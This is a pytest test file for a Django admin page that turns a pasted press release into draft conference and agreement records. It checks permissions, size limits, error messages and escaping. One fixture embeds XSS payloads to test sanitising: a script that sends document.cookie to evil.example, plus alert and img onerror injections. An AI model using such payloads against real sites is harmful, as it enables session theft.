""" "New from a press release" in the admin: the pages, the links to them, and what a
hostile paste gets (a clear message, nothing saved)."""

import pytest
from django.contrib.auth.models import Group, User
from django.urls import reverse

from events.models import Conference, Organization, Person
from partnerships.intake.review import Review
from partnerships.models import Agreement
from tests.pages import page_text as text_of
from tests.partnerships.intake_forms import SEED_TEXT

pytestmark = pytest.mark.django_db

URL = "admin:partnerships_press_release"


def signed_in(client, role="Editor"):
    user = User.objects.create_user(f"{role.lower()}-intake", password="x", is_staff=True)
    if role != "staff":
        user.groups.add(Group.objects.get(name=role))
    client.force_login(user)
    return client


@pytest.fixture
def editor(client):
    return signed_in(client)


def nothing_saved():
    return not (
        Conference.objects.exists()
        or Agreement.objects.exists()
        or Person.objects.exists()
        or Organization.objects.exists()
    )


def test_the_page_is_linked_from_the_index_and_the_conference_and_agreement_lists(editor):
    url = reverse(URL)

    for page in ["admin:index", "admin:events_conference_changelist",
                 "admin:partnerships_agreement_changelist"]:  # fmt: skip
        response = editor.get(reverse(page))
        assert f'href="{url}"' in response.content.decode(), page

    assert (
        f'href="{url}"'
        not in editor.get(reverse("admin:events_person_changelist")).content.decode()
    )


def test_staff_without_a_role_see_no_link(client):
    signed_in(client, "staff")

    assert reverse(URL) not in client.get(reverse("admin:index")).content.decode()


def test_the_paste_page_labels_its_field(editor):
    page = editor.get(reverse(URL))

    html = page.content.decode()
    assert '<label for="id_release" class="required">The press release</label>' in html
    assert "<legend>Step 1 of 2: the release</legend>" in html


def test_a_paste_larger_than_the_site_reads_is_a_clear_message_and_nothing_is_saved(editor):
    five_mb = "Nanjing signed an agreement. " * (5 * 1024 * 1024 // 28)

    response = editor.post(reverse(URL), {"release": five_mb, "step": "save"})

    assert response.status_code == 413
    assert "larger than the 2.5 MB the site reads in one form" in text_of(response)
    assert "nothing was saved" in text_of(response)
    assert nothing_saved()


def test_a_paste_too_big_for_the_refused_is_still_refused(client):
    signed_in(client, "staff")

    response = client.post(reverse(URL), {"release": "x" * (3 * 1024 * 1024)})

    assert response.status_code == 403


def test_a_paste_longer_than_a_release_is_a_form_error(editor):
    response = editor.post(reverse(URL), {"release": "word " * 450_000, "step": "read"})

    assert response.status_code == 200
    assert "Paste the release alone" in text_of(response)
    assert nothing_saved()


def test_nonsense_is_a_clear_message_and_nothing_is_saved(editor):
    nonsense = "qwzx plorb ✶✶✶ 12 blee blah\n" * 40

    response = editor.post(reverse(URL), {"release": nonsense, "step": "save"})

    assert response.status_code == 200
    assert "does not read as a press release about a conference" in text_of(response)
    assert nothing_saved()


def test_a_reader_failure_is_a_clear_message_logged_and_nothing_is_saved(
    editor, monkeypatch, caplog
):
    # Fault injection: no paste is known to trip the reader now (the fuzz tests in
    # test_intake_read.py look for one), so the failure is made to happen.
    from partnerships.intake import read

    def failing(release):
        raise TypeError("unsupported operand type(s)")

    monkeypatch.setattr(read, "read_release", failing)

    for step in ["read", "save"]:
        response = editor.post(reverse(URL), {"release": SEED_TEXT, "step": step})

        assert response.status_code == 200
        assert "The release could not be read" in text_of(response)
    assert nothing_saved()
    assert "The press release reader failed on a paste" in caplog.text
    assert "TypeError" in caplog.text


def test_the_release_that_crashed_the_reader_is_reviewed(editor):
    release = (
        "The Xiamen-Malaysia Meeting was held in Kuala Lumpur on 21 May 2024. Trade between "
        "Xiamen and Malaysia reached 38.6 billion yuan last year."
    )

    response = editor.post(reverse(URL), {"release": release, "step": "read"})

    assert response.status_code == 200
    assert "Xiamen-Malaysia Meeting" in text_of(response)
    assert "could not be read" not in text_of(response)


def test_an_empty_paste_asks_for_the_release(editor):
    response = editor.post(reverse(URL), {"release": "   ", "step": "read"})

    assert "This field is required." in text_of(response) or "Paste the press release" in (
        text_of(response)
    )
    assert nothing_saved()


def newswire_page(release: str) -> str:
    paragraphs = "".join(f"<p>{line}</p>" for line in release.split("\n") if line.strip())
    return (
        "<!doctype html><html><head><title>Newswire</title>"
        "<script>document.location='https://evil.example/?'+document.cookie</script>"
        "<style>p{color:red}</style></head><body><nav><a href='/'>Home</a></nav>"
        f"<article>{paragraphs}</article>"
        "<script>alert('pasted')</script><img src=x onerror=alert(1)></body></html>"
    )


def test_html_with_scripts_is_read_without_them_and_they_never_reach_the_page(editor):
    response = editor.post(reverse(URL), {"release": newswire_page(SEED_TEXT), "step": "read"})

    html = response.content.decode()
    assert response.status_code == 200
    # Carried to the next step escaped, in a hidden field; never as markup.
    assert "<script>" not in html.replace('<script src="', "") and "<img src=x" not in html
    assert "&lt;script&gt;alert(&#x27;pasted&#x27;)&lt;/script&gt;" in html
    # The page is the review: the release's sentences, the scripts' text nowhere in them.
    sources = " ".join(form.source for form in response.context["review"].facts)
    assert "alert(" not in sources and "evil.example" not in sources
    assert "Nanjing" in sources
    assert nothing_saved()


def test_the_review_shows_each_fact_with_its_sentence_marked_and_how_sure(editor):
    response = editor.post(reverse(URL), {"release": SEED_TEXT, "step": "read"})

    html = response.content.decode()
    review: Review = response.context["review"]
    assert review.facts
    for form in review.facts:
        if form.fact.end > form.fact.start:
            assert "<mark>" in form.source, form.fact
        assert f"{form.confidence}% sure" in html
    assert html.count("<legend>") >= len(review.facts)
    # In a sentence, the words read are marked, the sentence around them shown.
    theme = next(form for form in review.facts if form.fact.kind == "theme")
    assert str(theme.source).endswith("was held in Hong Kong.")
    assert "<mark>Gathering in Hong Kong for a Better Future</mark>" in str(theme.source)
    assert 'type="file"' in html and 'enctype="multipart/form-data"' in html


def test_the_seed_pasted_reviewed_and_saved_gives_a_draft_with_its_facts(editor):
    from tests.partnerships.intake_forms import posted

    read = editor.post(reverse(URL), {"release": SEED_TEXT, "step": "read"})
    data = posted(read.context["review"], release=SEED_TEXT)

    response = editor.post(reverse(URL), data, follow=True)

    conference = Conference.objects.get()
    assert response.redirect_chain[-1][0] == reverse(
        "admin:events_conference_change", args=[conference.pk]
    )
    assert conference.publication_status == "draft"
    assert "is a new draft made from the press release" in text_of(response)
    assert conference.title == (
        "Nanjing Promotion Conference on High Quality Development & Wider Opening up of "
        "Service Sector (Hong Kong & Macao)"
    )
    assert conference.theme == "Gathering in Hong Kong for a Better Future"
    assert str(conference.start_date) == "2023-02-08"
    assert conference.city == "Hong Kong"
    assert conference.time_zone == "Asia/Hong_Kong"
    assert (conference.source_publisher, conference.source_dateline) == (
        "PR Newswire",
        "HONG KONG",
    )
    assert str(conference.source_date) == "2023-02-09"
    people = set(conference.participations.values_list("person__name", flat=True))
    assert {"Han Liming", "Chen Zhichang", "Patrick Lau"} <= people
    han = conference.participations.get(person__name="Han Liming")
    assert han.remote
    assert conference.key_figures.count() == 3
    agreement = Agreement.objects.get(kind="strategic_cooperation")
    assert agreement.publication_status == "draft"
    assert agreement.conference == conference
    assert "China Merchants Group" in agreement.party_names


def test_a_publisher_saving_from_a_release_gets_a_draft_too(client):
    from tests.partnerships.intake_forms import posted

    signed_in(client, "Publisher")
    read = client.post(reverse(URL), {"release": SEED_TEXT, "step": "read"})
    data = posted(read.context["review"], release=SEED_TEXT)
    data["publication_status"] = "published"  # not a field here: ignored

    client.post(reverse(URL), data)

    assert Conference.objects.get().publication_status == "draft"
    assert set(Agreement.objects.values_list("publication_status", flat=True)) == {"draft"}


def test_an_error_in_the_review_saves_nothing_and_keeps_what_was_typed(editor):
    from tests.partnerships.intake_forms import form_of, posted

    read = editor.post(reverse(URL), {"release": SEED_TEXT, "step": "read"})
    review = read.context["review"]
    title = form_of(review, "title")
    data = posted(review, release=SEED_TEXT, **{title["text"].html_name: ""})
    theme = form_of(review, "theme")
    data[theme["text"].html_name] = "Edited theme"

    response = editor.post(reverse(URL), data)

    assert response.status_code == 200
    assert "Nothing was saved: correct the fact marked below." in text_of(response)
    assert "Edited theme" in response.content.decode()
    assert nothing_saved()


def test_with_the_demo_content_the_seed_reuses_every_person_and_organization(editor, demo):
    from tests.partnerships.intake_forms import posted

    people, organizations = Person.objects.count(), Organization.objects.count()
    read = editor.post(reverse(URL), {"release": SEED_TEXT, "step": "read"})
    review = read.context["review"]
    chosen = {
        form.fact.value["name"]: form["match"].value()
        for form in review.facts
        if form.fact.kind in ("person", "organization")
    }
    assert "new" not in chosen.values(), chosen

    editor.post(reverse(URL), posted(review, release=SEED_TEXT))

    assert (Person.objects.count(), Organization.objects.count()) == (people, organizations)
    draft = Conference.objects.get(publication_status="draft")
    han = draft.participations.get(person__name="Han Liming")
    assert sorted(str(post) for post in han.positions.all()) == [
        "Member of the Standing Committee, Jiangsu Provincial Party Committee",
        "Secretary, Nanjing Municipal Party Committee",
    ]


@pytest.mark.parametrize(
    ("language", "title"), [("zh-hans", "从新闻稿新建"), ("zh-hant", "從新聞稿新建")]
)
def test_the_pages_speak_the_editors_language(editor, language, title):
    paste = editor.get(reverse(URL), HTTP_ACCEPT_LANGUAGE=language)
    review = editor.post(
        reverse(URL), {"release": SEED_TEXT, "step": "read"}, HTTP_ACCEPT_LANGUAGE=language
    )

    assert title in text_of(paste)
    assert "Save as a draft" not in text_of(review)


def test_the_seed_through_intake_gives_the_demo_content_exactly(editor, demo, media_root):
    """Paste, accept every fact as read, add the photo, save: the draft holds every fact
    the demo conference holds (the content the site ships, made from the same release),
    and nothing else."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from partnerships.intake.records import facts_of_conference
    from partnerships.intake.scoring import score
    from tests.images import image_bytes
    from tests.partnerships.intake_forms import posted

    demo_conference = Conference.objects.get()
    read = editor.post(reverse(URL), {"release": SEED_TEXT, "step": "read"})
    data = posted(read.context["review"], release=SEED_TEXT)
    data["photo-0-alt_text"] = "Officials at the signing table"
    data["photo-0-image"] = SimpleUploadedFile("signing.jpg", image_bytes(), "image/jpeg")

    response = editor.post(reverse(URL), data)

    draft = Conference.objects.exclude(pk=demo_conference.pk).get()
    assert response["Location"] == reverse("admin:events_conference_change", args=[draft.pk])
    result = score(facts_of_conference(draft), facts_of_conference(demo_conference))
    assert [(fact.kind, fact.value) for fact in result.missed] == []
    assert [(fact.kind, fact.value) for fact in result.extra] == []
    assert draft.publication_status == "draft"
    assert set(draft.agreements.values_list("publication_status", flat=True)) == {"draft"}
